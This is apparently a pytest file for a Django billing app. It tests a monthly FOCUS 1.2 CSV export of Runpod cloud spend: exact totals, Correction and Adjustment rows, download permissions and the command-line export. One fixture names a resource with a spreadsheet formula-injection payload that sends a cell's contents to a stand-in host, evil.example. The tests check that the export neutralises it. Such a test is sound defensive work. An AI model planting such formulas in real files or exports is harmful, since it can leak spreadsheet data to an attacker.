"""The FOCUS 1.2 dataset of a month (labgov/exports/focus.py): one row per resource, hour and
charge; BilledCost adding up to the month's Runpod total to the cent and to the last digit,
by day and by resource; late usage of a closed month marked Correction; the invoices' credits
as Adjustment; who may download it."""

import csv
import datetime as dt
import io
import json
from collections import defaultdict
from decimal import Decimal
from io import StringIO

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.urls import reverse

from labgov.core.money import ZERO, to_cents
from labgov.exports import focus
from labgov.invoicing.bridge import period_bridge
from labgov.invoicing.reconciliation import period_reconciliation
from labgov.runpod.models import AccountBillingRecord, BillingRecord
from labgov.usage.models import ClosedPeriod
from tests.exports.conftest import make_invoice
from tests.factories import AllocationFactory, ResourceFactory, RunpodAccountFactory

MONTH = dt.date(2026, 10, 1)
EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
NOW = dt.datetime(2026, 11, 3, 12, tzinfo=dt.UTC)


def _hour(day: int, hour: int) -> dt.datetime:
    return dt.datetime(2026, 10, day, hour, tzinfo=dt.UTC)


def make_month(world, *, hours: int = 30):
    """A month of every kind of resource with thirds of a cent everywhere, so that rounding
    each row would drift: pods (GPU, CPU, disk), a network volume (both storage kinds), a
    serverless endpoint (GPU, CPU, disk, fee), a cluster (GPU, disk, networking), the
    account-wide public endpoints, one pod nobody pays for (named like a formula) and one
    record whose total holds more than its components. Runpod's account total equals the
    records' per hour."""
    account = RunpodAccountFactory(institution=world.institution, name="Main")
    other = AllocationFactory(funding_source=world.other_funding_source, user=world.other_member)
    third = Decimal("0.3333333333")
    pod = ResourceFactory(
        account=account, runpod_id="pod-a", name="train", gpu_type_id="NVIDIA H100", gpu_count=2
    )
    pod.data_center_id = "EU-RO-1"
    pod.save()
    spec = [
        (pod, "pod", world.allocation, {"gpu_usd": 2 * third, "cpu_usd": third, "disk_usd": third}),
        (ResourceFactory(account=account, runpod_id="pod-x", name=EVIL), "pod", None,
         {"gpu_usd": third}),
        (ResourceFactory(account=account, kind="network_volume", runpod_id="vol-1", name="data"),
         "network_volume", other, {"storage_standard_usd": third,
                                   "storage_high_performance_usd": third / 2}),
        (ResourceFactory(account=account, kind="serverless", runpod_id="ep-1", name="infer"),
         "serverless", world.allocation, {"gpu_usd": third, "cpu_usd": third / 3,
                                          "disk_usd": third / 5, "fee_usd": third / 7}),
        (ResourceFactory(account=account, kind="cluster", runpod_id="cl-1", name="big"),
         "cluster", other, {"gpu_usd": 7 * third, "disk_usd": third,
                            "networking_usd": third / 9}),
        (ResourceFactory(account=account, kind="endpoint", runpod_id="", name=""),
         "endpoint", None, {}),
    ]  # fmt: skip
    records, runpod = [], defaultdict(lambda: ZERO)
    for h in range(hours):
        start = _hour(1 + h // 24, h % 24)
        for resource, kind, allocation, parts in spec:
            parts = {k: v.quantize(Decimal("1E-10")) for k, v in parts.items()}
            total = sum(parts.values(), ZERO) or third
            if resource.runpod_id == "pod-a" and h == 0:
                total += Decimal("0.0000000007")  # a total beyond its components
            records.append(
                BillingRecord(
                    resource=resource,
                    kind=kind,
                    bucket_start=start,
                    bucket_end=start + dt.timedelta(hours=1),
                    total_usd=total,
                    allocation=allocation,
                    synced_at=dt.datetime(2026, 11, 1, 1, tzinfo=dt.UTC),
                    **parts,
                )
            )
            runpod[start] += total
    BillingRecord.objects.bulk_create(records)
    AccountBillingRecord.objects.bulk_create(
        AccountBillingRecord(
            account=account, bucket_start=start, bucket_end=start + dt.timedelta(hours=1),
            total_usd=total,
        )
        for start, total in runpod.items()
    )  # fmt: skip
    return account


def read(institution, month=MONTH) -> list[dict]:
    text = b"".join(focus.dataset(institution, month)).decode()
    return list(csv.DictReader(io.StringIO(text)))


def _runpod(rows):
    return [r for r in rows if r["InvoiceIssuerName"] == "Runpod"]


@pytest.fixture
def month(world):
    return make_month(world)


def write_month(world, path):
    path.write_bytes(b"".join(focus.dataset(world.institution, MONTH)))


def test_billed_cost_adds_up_to_runpod_total_exactly_by_day_and_by_resource(world, month):
    rows = read(world.institution)
    assert rows and list(rows[0]) == focus.COLUMNS
    billed = [Decimal(r["BilledCost"]) for r in rows]
    records = BillingRecord.objects.filter(resource__account=month)
    exact = sum((r.total_usd for r in records), ZERO)
    (reconciled,) = period_reconciliation(world.institution, MONTH, now=NOW)
    bridge = period_bridge(world.institution, MONTH)
    assert sum(billed, ZERO) == exact == reconciled.records_usd == reconciled.runpod_usd
    assert to_cents(sum(billed, ZERO)) == bridge.runpod.amount_usd
    # Rounding each row would not have added up: the file keeps every digit.
    assert sum((to_cents(b) for b in billed), ZERO) != to_cents(exact)
    by_day, by_resource = defaultdict(lambda: ZERO), defaultdict(lambda: ZERO)
    for row in rows:
        by_day[row["ChargePeriodStart"][:10]] += Decimal(row["BilledCost"])
        by_resource[row["ResourceId"]] += Decimal(row["BilledCost"])
    runpod_days = defaultdict(lambda: ZERO)
    for record in AccountBillingRecord.objects.filter(account=month):
        runpod_days[f"{record.bucket_start:%Y-%m-%d}"] += record.total_usd
    assert dict(by_day) == dict(runpod_days)
    resources = defaultdict(lambda: ZERO)
    for record in records.select_related("resource"):
        resources[record.resource.runpod_id or f"endpoints-{month.pk}"] += record.total_usd
    assert dict(by_resource) == dict(resources)
    for row in rows:
        assert row["BilledCost"] == row["EffectiveCost"] == row["ListCost"]
        assert row["ContractedCost"] == row["BilledCost"]


def test_one_row_per_resource_hour_and_charge_with_focus_columns(world, month):
    rows = read(world.institution)
    order = [name for name, _ in focus.COMPONENTS]
    first = sorted(
        (
            r
            for r in rows
            if r["ResourceId"] == "pod-a" and r["ChargePeriodStart"] == "2026-10-01T00:00:00Z"
        ),
        key=lambda r: order.index(r["x_Component"]),
    )
    assert [r["x_Component"] for r in first] == ["gpu", "cpu", "disk", "other"]
    gpu = first[0]
    assert gpu["SkuId"] == "NVIDIA H100" and first[1]["SkuId"] == "pod-cpu"
    assert gpu["ChargePeriodEnd"] == "2026-10-01T01:00:00Z"
    assert (gpu["BillingPeriodStart"], gpu["BillingPeriodEnd"]) == (
        "2026-10-01T00:00:00Z",
        "2026-11-01T00:00:00Z",
    )
    assert gpu["ChargeCategory"] == "Usage" and gpu["ChargeClass"] == ""
    assert gpu["ServiceCategory"] == "Compute" and gpu["ServiceName"] == "Runpod Pods"
    assert (gpu["RegionId"], gpu["ResourceType"], gpu["ResourceName"]) == (
        "EU-RO-1",
        "Pod",
        "train",
    )
    assert gpu["PricingQuantity"] == gpu["ConsumedQuantity"] == "1.000000"
    assert gpu["PricingUnit"] == gpu["ConsumedUnit"] == "Hours"
    assert {gpu[k] for k in ("ProviderName", "PublisherName", "InvoiceIssuerName")} == {"Runpod"}
    assert gpu["BillingAccountId"] == f"runpod-connection-{month.pk}"
    assert gpu["BillingAccountName"] == "Main" and gpu["BillingCurrency"] == "USD"
    source = world.funding_source
    assert json.loads(gpu["Tags"]) == {
        "labgov/institution": "Northfield",
        "labgov/lab": "Vision",
        "labgov/funding_source": source.name,
        **({"labgov/award_number": source.award_number} if source.award_number else {}),
        **({"labgov/cost_center": source.cost_center} if source.cost_center else {}),
        "labgov/allocation": str(world.allocation.pk),
        "labgov/person": world.member.username,
    }
    # Every hour of every resource, each non-zero charge once: 30 hours × (3 + 1 + 2 + 4 + 3 +
    # 1), and the pod's remainder, which only its first hour has.
    assert len(rows) == 30 * 14 + 1
    components = {(r["x_RunpodResourceKind"], r["x_Component"]) for r in rows}
    assert components == {
        ("pod", "gpu"), ("pod", "cpu"), ("pod", "disk"), ("pod", "other"),
        ("network_volume", "storage_standard"), ("network_volume", "storage_high_performance"),
        ("serverless", "gpu"), ("serverless", "cpu"), ("serverless", "disk"),
        ("serverless", "fee"), ("cluster", "gpu"), ("cluster", "disk"),
        ("cluster", "networking"), ("endpoint", "other"),
    }  # fmt: skip
    evil = next(r for r in rows if r["ResourceId"] == "pod-x")
    assert evil["ResourceName"] == "'" + EVIL  # the formula guard
    assert json.loads(evil["Tags"]) == {
        "labgov/institution": "Northfield",
        "labgov/unattributed": True,
    }
    endpoint = next(r for r in rows if r["x_RunpodResourceKind"] == "endpoint")
    assert endpoint["ServiceName"] == "Runpod Public Endpoints"


def test_postgresql_copy_and_python_rows_agree(world, month, postgres):
    text = b"".join(focus.dataset(world.institution, MONTH)).decode()
    # A dataset is a set of rows: compared in one order.
    at = {name: focus.COLUMNS.index(name) for name in ("ResourceId", "ChargePeriodStart")}

    def key(row):
        return (row[at["ResourceId"]], row[at["ChargePeriodStart"]], row[-2])

    copied = sorted(list(csv.reader(io.StringIO(text)))[1:], key=key)
    python = sorted(focus.rows(world.institution, MONTH), key=key)
    assert len(copied) == len(python) == 30 * 14 + 1
    for a, b in zip(copied, python, strict=True):
        for name, x, y in zip(focus.COLUMNS, a, b, strict=True):
            if name == "Tags":
                assert json.loads(x) == json.loads(y)
            elif name.endswith(("Cost", "Quantity")) and x:
                assert Decimal(x) == Decimal(y), name
            else:
                assert x == ("'" + y if y.startswith("=") else y), name


def test_late_usage_of_a_closed_month_is_a_correction_and_credits_are_adjustments(world, month):
    ClosedPeriod.objects.create(
        institution=world.institution, month=MONTH, closed_by=world.finance,
    )  # fmt: skip
    closed_at = ClosedPeriod.objects.get().closed_at
    late = BillingRecord.objects.filter(resource__runpod_id="pod-a", bucket_start=_hour(1, 3))
    late.update(gpu_usd=Decimal("5.0000000001"), total_usd=Decimal("5.6666666668"),
                synced_at=closed_at + dt.timedelta(hours=1))  # fmt: skip
    make_invoice(
        world.funding_source,
        lines=[("credit", "goodwill for the outage", None, None, "-12.50", True)],
        month=MONTH,
        allocation=world.allocation,
    )
    rows = read(world.institution)
    corrections = [r for r in rows if r["ChargeClass"] == "Correction"]
    assert {r["ChargePeriodStart"] for r in corrections} == {"2026-10-01T03:00:00Z"}
    assert {r["ResourceId"] for r in corrections} == {"pod-a"}
    assert all(r["ChargeCategory"] == "Usage" for r in corrections)
    (adjustment,) = [r for r in rows if r["ChargeCategory"] == "Adjustment"]
    assert adjustment["BilledCost"] == "-12.50"
    assert adjustment["InvoiceIssuerName"] == "Northfield"
    assert adjustment["PricingQuantity"] == "" and adjustment["SkuId"] == ""
    assert "goodwill for the outage" in adjustment["ChargeDescription"]
    assert json.loads(adjustment["Tags"])["labgov/allocation"] == str(world.allocation.pk)
    runpod = sum((Decimal(r["BilledCost"]) for r in _runpod(rows)), ZERO)
    records = sum((r.total_usd for r in BillingRecord.objects.all()), ZERO)
    assert runpod == records
    bridge = period_bridge(world.institution, MONTH)
    credits = next(p for p in bridge.invoice_parts if p.key == "credits")
    assert sum((Decimal(r["BilledCost"]) for r in rows), ZERO) == records + credits.amount_usd


def test_an_archived_month_is_refused_in_words(world, month, monkeypatch):
    monkeypatch.setattr(focus, "detached_within", lambda start, end: [MONTH])
    with pytest.raises(Exception, match="archived"):
        read(world.institution)


def test_finance_and_institution_admins_download_it_others_do_not(world, month, client_for):
    url = reverse("exports:period_focus_csv", args=[world.institution.pk, 2026, 10])
    for user in (world.finance, world.inst_admin):
        response = client_for(user).get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"] == (
            'attachment; filename="labgov-northfield-test-2026-10-focus-1.2.csv"'
        )
        body = b"".join(response.streaming_content).decode()
        assert body.startswith("BilledCost,BillingAccountId,")
    # A lab admin sees the period's page but not the institution's whole billing.
    assert client_for(world.lab_admin).get(url).status_code == 403
    for user in (world.member, world.outsider):
        assert client_for(user).get(url).status_code == 404
    page = client_for(world.finance).get(
        reverse("exports:period", args=[world.institution.pk, 2026, 10])
    )
    assert url in page.content.decode()
    lab_page = client_for(world.lab_admin).get(
        reverse("exports:period", args=[world.institution.pk, 2026, 10])
    )
    assert url not in lab_page.content.decode()


def test_export_focus_command_writes_the_file_and_refuses_bad_arguments(world, month, tmp_path):
    out = tmp_path / "focus.csv"
    call_command(
        "export_focus", institution=world.institution.slug, month="2026-10", output=str(out),
        stdout=StringIO(),
    )  # fmt: skip
    by_slug = out.read_bytes().decode()
    call_command(
        "export_focus", institution=str(world.institution.pk), month="2026-10",
        output=str(out), stdout=StringIO(),
    )  # fmt: skip
    assert out.read_bytes().decode() == by_slug and by_slug.startswith("BilledCost,")
    stdout = StringIO()
    call_command("export_focus", institution=world.institution.slug, month="2026-10", stdout=stdout)
    assert stdout.getvalue() == by_slug
    with pytest.raises(CommandError, match="No institution"):
        call_command("export_focus", institution="nowhere", month="2026-10", stdout=StringIO())
    for bad in ("2026-13", "October", "2026-1-1"):
        with pytest.raises(CommandError, match="YYYY-MM"):
            call_command(
                "export_focus", institution=world.institution.slug, month=bad, stdout=StringIO()
            )


@time_machine.travel(NOW, tick=False)
def test_an_empty_month_is_a_header(world):
    text = b"".join(focus.dataset(world.institution, dt.date(2026, 9, 1))).decode()
    assert text.splitlines() == [",".join(focus.COLUMNS)]


def test_the_download_takes_the_same_queries_however_many_resources(world, client_for):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = reverse("exports:period_focus_csv", args=[world.institution.pk, 2026, 10])
    client = client_for(world.finance)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            body = b"".join(response.streaming_content)
        assert response.status_code == 200 and body
        return len(captured)

    make_month(world, hours=2)
    few = queries()
    account = RunpodAccountFactory(institution=world.institution, name="Second")
    more = [ResourceFactory(account=account) for _ in range(5)]
    BillingRecord.objects.bulk_create(
        BillingRecord(
            resource=resource,
            kind="pod",
            bucket_start=_hour(2, h),
            bucket_end=_hour(2, h + 1),
            total_usd=Decimal("0.25"),
            gpu_usd=Decimal("0.25"),
            allocation=world.allocation,
        )
        for resource in more
        for h in range(3)
    )
    assert queries() == few


def test_another_clouds_imported_spend_is_not_written_as_runpod(world, month):
    """A FOCUS billing source's records sit in the same tables as Runpod's; the dataset is
    labgov's Runpod spend, so they stay out of it (their own provider already exports them)."""
    from pathlib import Path

    from labgov.runpod.focus import focus_import, source_create

    before = read(world.institution)
    source = source_create(
        actor=world.inst_admin, institution=world.institution, name="AWS", provider="AWS"
    )
    path = Path(__file__).parents[1] / "runpod" / "focus_files" / "aws_2026_10.csv"
    with time_machine.travel(NOW), open(path, "rb") as stream:
        focus_import(
            actor=world.inst_admin, account=source, stream=stream, file_name=path.name, late=True
        )
    assert BillingRecord.objects.filter(resource__account=source).exists()
    after = read(world.institution)
    assert after == before
    assert {r["ProviderName"] for r in after} == {"Runpod"}
